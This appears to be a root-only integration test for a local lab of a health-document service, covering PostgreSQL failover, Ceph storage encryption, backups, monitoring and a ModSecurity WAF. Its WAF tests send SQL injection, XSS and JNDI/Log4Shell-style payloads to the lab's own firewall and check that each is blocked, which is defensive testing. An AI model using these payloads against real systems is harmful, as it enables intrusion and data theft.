/**
 * The local lab for real, from the shipped `lab` environment: namespaces, etcd x3,
 * Patroni/PostgreSQL 15 (sync, RPO 0, EXG_PCA_2), HAProxy x2, pgBackRest repository in DC3
 * (aes-256-cbc, EXG_PRA_2), SoftHSM2 tokens, the reference service behind nginx +
 * ModSecurity + CRS (EXG_WAF_1, EXG_SEC_6), Prometheus with the blackbox exporter. Needs root.
 * Traffic stays on the lab bridge and in the namespaces this test creates.
 */
import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdtempSync } from 'node:fs';
import { readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MONITORING_PATHS } from '../services/fromTopology/paths.ts';
import { MONITORING_FILES } from '../services/monitoring/render.ts';
import { MAX_DOCUMENT_BYTES } from '../model/documents.ts';
import { wafLogPaths } from '../services/waf/logging.ts';
import { documentObjectKey } from '../refservice/objectStore.ts';
import { runCephTool } from '../runtime/ceph/cli.ts';
import { cephHealth, cephStretchState } from '../runtime/ceph/health.ts';
import { getObjectBytes } from '../runtime/ceph/s3.ts';
import { cephHosts, rgwInput } from '../services/fromTopology/ceph.ts';
import { labComponents } from './components/all.ts';
import { labCephAdmin, labCephExpectation, labDocumentsS3 } from './components/ceph.ts';
import { createContext } from './context.ts';
import { labBackup, labBackupInfo } from './components/pgbackrest.ts';
import { pgDataDir } from './components/postgres.ts';
import { wafDirs } from './components/waf.ts';
import { edgeSites, monitoringGuest, objectGateways, prometheusUrl } from './edgeEndpoints.ts';
import { etcdMembers, haproxyEndpoints, patroniNodes } from './endpoints.ts';
import { guestPath, labGuests, labProfileOf, resolvedGuestFiles, WAF_SERVER_NAME } from './guests.ts';
import { labDown, labStatus, labUp } from './lab.ts';
import { listNetns } from './netns.ts';
import { appClient, etcdHealth, etcdMemberCount, inRecoveryVia, type PatroniMember, patroniClusterAny } from './probes.ts';
import { netnsPids, processStatus } from './supervisor.ts';
import { shippedLabPlan } from './testing.ts';
import { wafRequest } from './wafClient.ts';

const isRoot = process.getuid?.() === 0;
if (!isRoot) console.warn('lab.int.test.ts skipped: the lab needs root (network namespaces, a bridge, services run as their users)');

const DOMAIN = 'documents';

describe.skipIf(!isRoot)('local lab (root, real services)', () => {
  const stateDir = mkdtempSync('/tmp/hds-lab-int-');
  chmodSync(stateDir, 0o755); // service users traverse it to reach their own directories
  const plan = shippedLabPlan(stateDir);
  const components = labComponents(plan);
  const edges = edgeSites(plan);
  const nodes = patroniNodes(plan, DOMAIN);
  const restUrls = nodes.map((n) => n.restUrl);
  const timings: Record<string, number> = {};
  const log = (l: string) => process.stderr.write(`${l}\n`);

  async function cluster(): Promise<PatroniMember[]> {
    return (await patroniClusterAny(plan, restUrls)).members;
  }

  /** Inserts one row through the write port of `site`'s HAProxy; returns the row count. */
  async function writeVia(siteIndex: number, value: string): Promise<number> {
    const h = haproxyEndpoints(plan)[siteIndex]!;
    const c = await appClient(plan, DOMAIN, h.address, h.clusters[0]!.writePort);
    try {
      await c.query('create table if not exists lab_probe (id bigserial primary key, v text not null, at timestamptz default now())');
      await c.query('insert into lab_probe (v) values ($1)', [value]);
      const r = await c.query<{ n: string }>('select count(*) as n from lab_probe');
      return Number(r.rows[0]!.n);
    } finally {
      await c.end().catch(() => undefined);
    }
  }

  beforeAll(async () => {
    const busy = (await listNetns()).filter((n) => plan.sites.some((s) => s.netns === n));
    if (busy.length > 0) throw new Error(`another lab is running (namespaces ${busy.join(', ')} exist): run its labDown first`);
  });

  afterAll(async () => {
    // Never the other lab's: when beforeAll refused to start, nothing of ours runs.
    if (!existsSync(join(stateDir, 'run'))) return;
    await labDown(plan, { components, purge: true, log }).catch((e) => log(`cleanup failed: ${(e as Error).message}`));
    log(`lab timings (s): ${JSON.stringify(Object.fromEntries(Object.entries(timings).map(([k, v]) => [k, Math.round(v / 100) / 10])))}`);
  });

  it('labUp brings the whole data plane up', async () => {
    const t = Date.now();
    const r = await labUp(plan, { components, log });
    timings.up = Date.now() - t;
    expect(r.alreadyUp).toBe(false);
    expect((await labStatus(plan, { components })).up).toBe(true);
  });

  it('labUp twice is a no-op that says so', async () => {
    const lines: string[] = [];
    const r = await labUp(plan, { components, log: (l) => lines.push(l) });
    expect(r.alreadyUp).toBe(true);
    expect(r.started).toEqual([]);
    expect(lines.join('\n')).toMatch(/already up/);
  });

  it('EXG_PCA_2: a Patroni leader in one DC and a synchronous standby in the other', async () => {
    const m = await cluster();
    const leader = m.find((x) => x.role === 'leader');
    const sync = m.find((x) => x.role === 'sync_standby');
    expect(leader?.state).toBe('running');
    expect(sync).toBeDefined();
    const siteOf = (name: string) => nodes.find((n) => n.name === name)!.site.id;
    expect(siteOf(leader!.name)).not.toBe(siteOf(sync!.name));
  });

  it('etcd: 3 healthy members, one in each namespace', async () => {
    const h = await etcdHealth(plan);
    expect(h.filter((x) => x.health)).toHaveLength(3);
    expect(await etcdMemberCount(plan)).toBe(3);
    for (const m of etcdMembers(plan)) {
      const st = await processStatus(stateDir, m.name);
      expect(st.alive).toBe(true);
      expect(await netnsPids(m.site.netns)).toContain(st.pid);
    }
  });

  it('issue 13: Ceph HEALTH_OK with its monitors in the three namespaces and its OSDs in the two data sites; stretch mode, DC3 breaks ties', async () => {
    const admin = labCephAdmin(plan);
    const s = await cephHealth(admin, labCephExpectation(plan));
    expect(s.quorum).toHaveLength(3);
    expect(s.osds).toMatchObject({ total: 4, up: 4, in: 4 });
    const stretch = await cephStretchState(admin);
    expect(stretch.stretchMode).toBe(true);
    expect(stretch.locations[stretch.tiebreaker]).toMatch(/datacenter=dc3/);
    // Where each daemon really runs: its process inside its site's namespace.
    const where: Record<string, string[]> = {};
    for (const spec of components.find((c) => c.name === 'ceph')!.processes(createContext(plan, () => undefined))) {
      const st = await processStatus(stateDir, spec.name);
      expect(st.alive, spec.name).toBe(true);
      const site = plan.sites.find((x) => x.netns === spec.netns)!;
      expect(await netnsPids(site.netns), spec.name).toContain(st.pid);
      where[site.id] = [...(where[site.id] ?? []), spec.name.split('.')[0]!];
    }
    const count = (site: string, kind: string) => (where[site] ?? []).filter((k) => k === `ceph-${kind}`).length;
    expect([count('DC1', 'mon'), count('DC2', 'mon'), count('DC3', 'mon')]).toEqual([1, 1, 1]);
    expect([count('DC1', 'osd'), count('DC2', 'osd'), count('DC3', 'osd')]).toEqual([2, 2, 0]);
    expect([count('DC1', 'rgw'), count('DC2', 'rgw'), count('DC3', 'rgw')]).toEqual([1, 1, 0]);
    // cephx keys: 0600 in a 0700 directory of the state dir.
    expect((await stat(join(stateDir, 'secrets', 'ceph'))).mode & 0o777).toBe(0o700);
    for (const f of (await readdir(join(stateDir, 'secrets', 'ceph'))).filter((x) => x.endsWith('.keyring')))
      expect((await stat(join(stateDir, 'secrets', 'ceph', f))).mode & 0o777, f).toBe(0o600);
  });

  it('namespaces have no default route', async () => {
    for (const s of plan.sites) {
      const r = await execa('ip', ['-n', s.netns, 'route', 'show', 'default']);
      expect(r.stdout.trim()).toBe('');
    }
  });

  let rowsBefore = 0;
  it('a write through the HAProxy write port of each DC reaches the leader', async () => {
    rowsBefore = await writeVia(0, 'before-failover-dc1');
    rowsBefore = await writeVia(1, 'before-failover-dc2');
    expect(rowsBefore).toBe(2);
  });

  it('the read port reaches the synchronous standby; HAProxy exposes Prometheus metrics', async () => {
    const h = haproxyEndpoints(plan)[0]!;
    expect(await inRecoveryVia(plan, DOMAIN, h.address, h.clusters[0]!.readPort)).toBe(true);
    const res = await fetch(`http://${h.address}:${h.statsPort}/metrics`, { signal: AbortSignal.timeout(5000) });
    expect(res.status).toBe(200);
    expect(await res.text()).toMatch(/^haproxy_backend_status\{proxy="documents_write"/m);
  });

  async function postDocument(siteIndex: number, content: Buffer, headers: Record<string, string> = {}) {
    return wafRequest(plan, `${edges[siteIndex]!.waf.url}/documents`, {
      method: 'POST',
      headers,
      body: { title: 'Compte rendu opératoire', patientId: 'lab-test-patient', category: 'CR-OPERATOIRE', contentBase64: content.toString('base64') },
    });
  }

  it('EXG_SEC_4.3: a document written through the WAF (TLS) is read back intact, and is not in clear in the database', async () => {
    const marker = Buffer.from(`Résultat d'analyse confidentiel ${'x'.repeat(64)} fin`, 'utf8');
    const post = await postDocument(0, marker);
    expect(post.status).toBe(201);
    const { id } = JSON.parse(post.body) as { id: string };
    for (const e of edges) {
      const get = await wafRequest(plan, `${e.waf.url}/documents/${id}`);
      expect(get.status).toBe(200);
      expect(Buffer.from((JSON.parse(get.body) as { contentBase64: string }).contentBase64, 'base64').equals(marker)).toBe(true);
    }
    const h = haproxyEndpoints(plan)[0]!;
    const c = await appClient(plan, DOMAIN, h.address, h.clusters[0]!.writePort);
    try {
      const row = (await c.query('select * from documents where id = $1', [id])).rows[0] as Record<string, unknown>;
      const stored = Buffer.concat(Object.values(row).map((v) => (Buffer.isBuffer(v) ? v : Buffer.from(String(v)))));
      expect(stored.includes(marker)).toBe(false);
      expect(stored.includes(Buffer.from('confidentiel'))).toBe(false);
      expect(row.key_domain).toBe(DOMAIN);
    } finally {
      await c.end();
    }
  });

  it("issue 13: a document's content is an object in RGW read through both gateways (SSE-KMS), sealed, and neither it nor its ciphertext is in clear in RADOS or PostgreSQL", async () => {
    const marker = Buffer.from(`Compte rendu confidentiel ${randomBytes(16).toString('hex')} fin`, 'utf8');
    const post = await postDocument(0, marker);
    expect(post.status).toBe(201);
    const { id } = JSON.parse(post.body) as { id: string };
    const objects: Buffer[] = [];
    for (const gw of objectGateways(plan)) {
      const { client, bucket } = await labDocumentsS3(plan, gw);
      try {
        const o = await getObjectBytes(client, bucket, documentObjectKey(id));
        expect(o.sse, gw.site.id).toBe('aws:kms');
        objects.push(o.body);
      } finally {
        client.destroy();
      }
    }
    expect(objects).toHaveLength(2);
    expect(objects[1]!.equals(objects[0]!)).toBe(true);
    const sealed = objects[0]!;
    expect(sealed.length).toBe(marker.length); // AES-GCM: the envelope's ciphertext, its tag kept in the row
    expect(sealed.includes(marker.subarray(0, 24))).toBe(false);
    // RADOS holds the gateway's SSE ciphertext: neither the clear text nor the envelope's ciphertext.
    const admin = labCephAdmin(plan);
    const pool = `${rgwInput(plan.topology, labProfileOf(plan)).zone}.rgw.buckets.data`;
    const names = (await runCephTool(admin, 'rados', ['-p', pool, 'ls'])).split('\n').filter((n) => n.endsWith(documentObjectKey(id)));
    expect(names).toHaveLength(1);
    const raw = join(stateDir, 'rados-object');
    await runCephTool(admin, 'rados', ['-p', pool, 'get', names[0]!, raw]);
    const inRados = await readFile(raw);
    await rm(raw, { force: true });
    expect(inRados.length).toBeGreaterThanOrEqual(sealed.length);
    expect(inRados.includes(marker.subarray(0, 24))).toBe(false);
    expect(inRados.includes(sealed.subarray(0, 24))).toBe(false);
    // The row: metadata, the envelope and the object's key, no content bytes.
    const h = haproxyEndpoints(plan)[0]!;
    const c = await appClient(plan, DOMAIN, h.address, h.clusters[0]!.writePort);
    try {
      const row = (await c.query('select content_ciphertext, content_object from documents where id = $1', [id])).rows[0] as Record<string, unknown>;
      expect(row.content_ciphertext).toBeNull();
      expect(row.content_object).toBe(documentObjectKey(id));
    } finally {
      await c.end();
    }
  });

  it("the files every lab guest runs with are the adapter's output for the lab profile, byte for byte (secrets resolved)", async () => {
    const g = labGuests(plan);
    const guests = [...g.dcs, ...g.pgData, ...g.haproxy, ...g.waf, ...g.monitoring, ...(g.repository ? [g.repository] : []), ...cephHosts(plan.topology)];
    let compared = 0;
    for (const guest of guests) {
      for (const f of await resolvedGuestFiles(plan, guest)) {
        expect(await readFile(f.path, 'utf8'), f.path).toBe(f.content);
        expect(f.content).not.toMatch(/@@secret:/);
        compared++;
      }
    }
    expect(compared).toBeGreaterThanOrEqual(20);
  });

  it('EXG_WAF_1, EXG_SEC_6: the WAF answers 403 to SQL injection, XSS and undeclared paths, 200 to a valid call, and audits with the correlation id', async () => {
    const url = edges[0]!.waf.url;
    const ok = await wafRequest(plan, `${url}/health`);
    expect(ok.status).toBe(200);
    expect(ok.headers['x-correlation-id']).toMatch(/^[A-Za-z0-9][A-Za-z0-9._:-]{7,127}$/);
    const cid = `lab-test-${Date.now()}`;
    const sqli = await wafRequest(plan, `${url}/health?id=1'%20OR%20'1'='1`, { headers: { 'X-Correlation-ID': cid } });
    expect(sqli.status).toBe(403);
    expect(sqli.headers['x-correlation-id']).toBe(cid);
    const xss = await wafRequest(plan, `${url}/health?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E`);
    expect(xss.status).toBe(403);
    expect((await wafRequest(plan, `${url}/admin/config`)).status).toBe(403);
    expect((await wafRequest(plan, `${url}/documents`, { method: 'DELETE' })).status).toBe(403);
    // A SQL injection in the free-text field the contract leaves to the CRS: blocked by 942xxx.
    const cid2 = `lab-test-body-${Date.now()}`;
    const sqliBody = await wafRequest(plan, `${url}/documents`, {
      method: 'POST',
      headers: { 'X-Correlation-ID': cid2 },
      body: { title: "x' UNION SELECT password FROM users --", patientId: 'p-1', category: 'cr', contentBase64: 'aGVsbG8=' },
    });
    expect(sqliBody.status).toBe(403);
    // The SIEM line (the log relay's, issue 11): rule ids and the correlation id, never a value.
    const siem = wafLogPaths({ runDir: wafDirs({ plan }, edges[0]!).runDir }).siemLog;
    let entry: { correlation_id?: string; rules?: Array<{ id: string }> } | undefined;
    for (let i = 0; i < 50 && !entry; i++) {
      const text = await readFile(siem, 'utf8').catch(() => '');
      entry = text
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as { correlation_id?: string; rules?: Array<{ id: string }> })
        .find((e) => e.correlation_id === cid2);
      if (!entry) await sleep(200);
    }
    expect(entry, `no SIEM line with correlation id ${cid2}`).toBeDefined();
    expect(entry?.rules?.some((r) => String(r.id).startsWith('942'))).toBe(true);
  });

  it('issue 11: a document of the maximum size round-trips through both DCs; one byte more gets 413 in JSON', async () => {
    const doc = randomBytes(MAX_DOCUMENT_BYTES);
    for (const [from, to] of [
      [0, 1],
      [1, 0],
    ] as const) {
      const post = await wafRequest(plan, `${edges[from]!.waf.url}/documents`, {
        method: 'POST',
        body: { title: `Compte rendu d'imagerie (taille maximale) ${from}`, patientId: 'p-max', category: 'imagerie', contentBase64: doc.toString('base64') },
        timeoutMs: 120_000,
      });
      expect(post.status, post.body.slice(0, 300)).toBe(201);
      const { id } = JSON.parse(post.body) as { id: string };
      const get = await wafRequest(plan, `${edges[to]!.waf.url}/documents/${id}`, { timeoutMs: 120_000 });
      expect(get.status).toBe(200);
      expect(Buffer.from((JSON.parse(get.body) as { contentBase64: string }).contentBase64, 'base64').equals(doc)).toBe(true);
    }
    const over = await wafRequest(plan, `${edges[0]!.waf.url}/documents`, {
      method: 'POST',
      body: { title: 'Trop grand', patientId: 'p-max', category: 'imagerie', contentBase64: randomBytes(MAX_DOCUMENT_BYTES + 3).toString('base64') },
      timeoutMs: 120_000,
    });
    expect(over.status).toBe(413);
    expect(over.headers['content-type']).toMatch(/json/);
    expect(JSON.parse(over.body)).toHaveProperty('error');
  });

  // On this 2-core machine the upload (curl's TLS, nginx's inspection, the service's parse and the
  // synchronous insert) saturates both cores: the standalone WAF test holds every probe under
  // 100 ms (waf.int.test.ts); in the whole lab the median must stay under 100 ms and no probe may
  // wait for the inspection to end (docs/waf.md, measured figures).
  it('issue 11: while a maximum-size upload is inspected, /health on the same WAF answers (median < 100 ms, never blocked)', async () => {
    const url = edges[0]!.waf.url;
    // The uploader is curl in its own process (TLS and JSON of 27 MB in this process would add
    // its own delay to the probes), the probes are this process's.
    const file = join(stateDir, 'upload.json');
    await writeFile(
      file,
      JSON.stringify({ title: 'Upload long', patientId: 'p-max', category: 'imagerie', contentBase64: randomBytes(MAX_DOCUMENT_BYTES).toString('base64') }),
    );
    const u = new URL(url);
    const ca = join(stateDir, 'pki', 'ca.crt');
    let uploading = true;
    const uploadStart = performance.now();
    let uploadMs = 0;
    const upload = execa(
      'curl',
      [
        '-sS',
        '-o',
        '/dev/null',
        '-w',
        '%{http_code}',
        '--cacert',
        ca,
        '--resolve',
        `${WAF_SERVER_NAME}:${u.port || 443}:${u.hostname}`,
        '-H',
        'content-type: application/json',
        '--data-binary',
        `@${file}`,
        `https://${WAF_SERVER_NAME}:${u.port || 443}/documents`,
      ],
      { reject: false, timeout: 120_000 },
    ).finally(() => {
      uploading = false;
      uploadMs = performance.now() - uploadStart;
    });
    await sleep(300);
    const latencies: number[] = [];
    while (uploading && latencies.length < 40) {
      const t = performance.now();
      // Each probe a new connection, as a new user or the load balancer's health check: nginx hands
      // it to a worker waiting in epoll, never to the one inspecting. A kept-alive connection that
      // happens to live on the inspecting worker waits for the inspection (nginx's design: one event
      // loop per worker): the one slow probe of two runs (2.3 s, 2.7 s) once Ceph shared the CPU.
      const r = await wafRequest(plan, `${url}/health`, { timeoutMs: 5000, newConnection: true });
      latencies.push(performance.now() - t);
      expect(r.status).toBe(200);
      await sleep(50);
    }
    expect((await upload).stdout).toBe('201');
    await rm(file, { force: true });
    expect(latencies.length).toBeGreaterThan(0);
    const sorted = [...latencies].sort((a, b) => a - b);
    const shown = `latencies (ms): ${latencies.map((x) => x.toFixed(0)).join(' ')}`;
    log(`/health during a ${MAX_DOCUMENT_BYTES} B upload of ${uploadMs.toFixed(0)} ms: ${shown}`);
    expect(sorted[Math.floor((sorted.length - 1) / 2)]!, shown).toBeLessThan(100);
    // "Never blocked": a probe queued behind the inspection would wait for most of it (seconds).
    // Measured against the upload of the same run, not a fixed figure, so a machine loaded by
    // other work (one CI probe took 2.1 s of an 8 s upload) does not decide the verdict.
    expect(sorted[sorted.length - 1]!, `${shown}; upload ${uploadMs.toFixed(0)} ms`).toBeLessThan(Math.max(2000, 0.4 * uploadMs));
  });

  it('issue 11, HDS/GDPR: a marker sent in fields that trigger rules appears in no file the lab writes', async () => {
    const marker = `hdsmarker${randomBytes(8).toString('hex')}`;
    const url = edges[0]!.waf.url;
    const attack = `${marker}' UNION SELECT password FROM users --`;
    const probes = [
      wafRequest(plan, `${url}/health?q=${encodeURIComponent(attack)}`),
      wafRequest(plan, `${url}/documents`, {
        method: 'POST',
        body: { title: `<script>${marker}</script>`, patientId: 'p-1', category: 'cr', contentBase64: 'aGVsbG8=' },
      }),
      wafRequest(plan, `${url}/health`, { headers: { 'User-Agent': `\${jndi:ldap://${marker}.example/a}` } }),
      wafRequest(plan, `${url}/health`, { headers: { 'X-Api-Version': `\${jndi:ldap://${marker}/x}` } }),
      wafRequest(plan, `${url}/health`, { headers: { Cookie: `session=${encodeURIComponent(attack)}` } }),
      wafRequest(plan, `${url}/${marker}/admin`),
    ];
    const statuses = (await Promise.all(probes)).map((r) => r.status);
    expect(
      statuses.every((st) => st >= 400),
      `statuses ${statuses.join(' ')}`,
    ).toBe(true);
    await sleep(1500); // the relay writes after the response
    // BlueStore's 4 GiB sparse `block` files are left out: grep reads their holes as zeros (16 GiB,
    // minutes) and they hold only what reached RADOS, where no refused request goes (the contents
    // that do are checked against clear text by the RADOS test above).
    const r = await execa('grep', ['-rlF', '--binary-files=text', '--exclude=block', marker, stateDir], { reject: false });
    expect(r.exitCode, `files holding the marker:\n${r.stdout}`).toBe(1);
  });

  it('EXG_DIS_1.5, EXG_MON_4: Prometheus has every target up, the user probes green, and the alert rules load (promtool)', async () => {
    const q = async (query: string) => {
      const r = await fetch(`${prometheusUrl(plan)}/api/v1/query?query=${encodeURIComponent(query)}`, { signal: AbortSignal.timeout(5000) });
      return ((await r.json()) as { data: { result: Array<{ metric: Record<string, string>; value: [number, string] }> } }).data.result;
    };
    const up = await q('up');
    expect(up.length).toBeGreaterThanOrEqual(6);
    expect(up.filter((s) => s.value[1] !== '1').map((s) => s.metric)).toEqual([]);
    const jobs = new Set(up.map((s) => s.metric.job));
    for (const j of ['patroni', 'haproxy', 'ceph']) expect(jobs).toContain(j);
    // The active Ceph manager exports the cluster's health (0 = HEALTH_OK).
    expect((await q('max(ceph_health_status)')).map((x) => x.value[1])).toEqual(['0']);
    const probes = await q('probe_success');
    expect(probes.length).toBe(2 * edges.length);
    expect(probes.every((p) => p.value[1] === '1')).toBe(true);
    const rulesFile = join(guestPath(plan, monitoringGuest(plan), MONITORING_PATHS.confDir), MONITORING_FILES.rules);
    const check = await execa('promtool', ['check', 'rules', rulesFile], { reject: false });
    expect(check.exitCode, check.stderr).toBe(0);
    const rules = (await (await fetch(`${prometheusUrl(plan)}/api/v1/rules`)).json()) as {
      data: { groups: Array<{ rules: Array<{ name: string; health: string }> }> };
    };
    const loaded = rules.data.groups.flatMap((g) => g.rules);
    expect(loaded.map((r) => r.name)).toEqual(
      expect.arrayContaining([
        'TargetDown',
        'PostgresNoSynchronousStandby',
        'PostgresReplicationLagHigh',
        'CephHealthError',
        'CephPGsDegraded',
        'CephCapacity',
      ]),
    );
    expect(loaded.some((r) => r.name.startsWith('NoWriteActivity'))).toBe(true);
    expect(loaded.every((r) => r.health === 'ok')).toBe(true);
  });

  it('kill -9 of the leader postmaster: the standby takes over, writes work again, no committed row lost', async () => {
    const before = await cluster();
    const oldLeader = before.find((x) => x.role === 'leader')!;
    const node = nodes.find((n) => n.name === oldLeader.name)!;
    const pmPid = Number((await readFile(join(pgDataDir(plan, node), 'postmaster.pid'), 'utf8')).split('\n')[0]);
    expect(pmPid).toBeGreaterThan(1);
    const t0 = Date.now();
    process.kill(pmPid, 'SIGKILL');

    let newLeader: PatroniMember | undefined;
    for (let i = 0; i < 120 && Date.now() - t0 < 90_000; i++) {
      newLeader = (await cluster().catch(() => [])).find((x) => x.role === 'leader' && x.state === 'running' && x.name !== oldLeader.name);
      if (newLeader) break;
      await sleep(500);
    }
    timings.failoverLeader = Date.now() - t0;
    expect(newLeader, 'no new leader within 90 s').toBeDefined();

    // Strict synchronous mode: writes resume once the old leader rejoins as sync standby.
    let rows = 0;
    let lastErr = '';
    for (let i = 0; i < 120 && Date.now() - t0 < 180_000; i++) {
      try {
        rows = await writeVia(0, 'after-failover');
        break;
      } catch (e) {
        lastErr = (e as Error).message;
        await sleep(1000);
      }
    }
    timings.failoverWrite = Date.now() - t0;
    expect(rows, `no write through HAProxy within 180 s (last: ${lastErr})`).toBe(rowsBefore + 1);
    log(`failover: new leader ${newLeader!.name} after ${timings.failoverLeader} ms, write OK after ${timings.failoverWrite} ms`);
    // The reference service reconnects through HAProxy: writes through the WAF work again.
    let status = 0;
    for (let i = 0; i < 60 && status !== 201; i++) {
      status = (await postDocument(1, Buffer.from('après bascule')).catch(() => ({ status: 0 }))).status;
      if (status !== 201) await sleep(1000);
    }
    expect(status).toBe(201);
  });

  it('the old leader rejoins as synchronous standby', async () => {
    let m: PatroniMember[] = [];
    for (let i = 0; i < 120; i++) {
      m = await cluster().catch(() => []);
      if (m.some((x) => x.role === 'sync_standby')) break;
      await sleep(1000);
    }
    expect(m.map((x) => x.role).sort()).toEqual(['leader', 'sync_standby']);
  });

  it('EXG_PRA_2: a full backup from DC3 succeeds and the repository is aes-256-cbc encrypted', async () => {
    const t = Date.now();
    await labBackup(plan, DOMAIN, 'full');
    timings.fullBackup = Date.now() - t;
    const info = await labBackupInfo(plan, DOMAIN);
    const stanza = info[0] as {
      name: string;
      cipher: string;
      backup: Array<{ type: string; database: { 'repo-key': number } }>;
      repo: Array<{ key: number; cipher: string; status: { code: number } }>;
    };
    expect(stanza.name).toBe(DOMAIN);
    // Both repositories encrypted (the offline copy, repo2, holds no set until its own backup: status 2 there).
    expect(stanza.repo.map((r) => [r.key, r.cipher])).toEqual([
      [1, 'aes-256-cbc'],
      [2, 'aes-256-cbc'],
    ]);
    expect(stanza.repo.find((r) => r.key === 1)?.status.code).toBe(0);
    expect(stanza.backup.some((b) => b.type === 'full' && b.database['repo-key'] === 1)).toBe(true);
  });

  it('labDown leaves no namespace, no bridge, no process; twice is fine', async () => {
    const inLab = (await Promise.all(plan.sites.map((s) => netnsPids(s.netns)))).flat();
    expect(inLab.length).toBeGreaterThan(0);
    const t = Date.now();
    await labDown(plan, { components, log });
    timings.down = Date.now() - t;
    const ns = await listNetns();
    for (const s of plan.sites) expect(ns).not.toContain(s.netns);
    expect((await execa('ip', ['link', 'show', 'dev', plan.bridge.name], { reject: false })).exitCode).not.toBe(0);
    // Every process that ran inside the lab is gone (zombies awaiting their reaper aside), and
    // nothing else refers to the state dir. Other postgres processes on the host (other
    // tests) are none of our business.
    const leftovers: string[] = [];
    for (const e of await readdir('/proc')) {
      if (!/^\d+$/.test(e)) continue;
      const [cmd, status] = await Promise.all([readFile(`/proc/${e}/cmdline`, 'utf8').catch(() => ''), readFile(`/proc/${e}/status`, 'utf8').catch(() => '')]);
      if (status === '' || /^State:\s+Z/m.test(status)) continue;
      if (inLab.includes(Number(e)) || cmd.includes(stateDir)) leftovers.push(`${e}: ${cmd.replaceAll('\0', ' ').trim()}`);
    }
    expect(leftovers).toEqual([]);
    await labDown(plan, { components, log });
    expect((await labStatus(plan, { components })).up).toBe(false);
  });
});
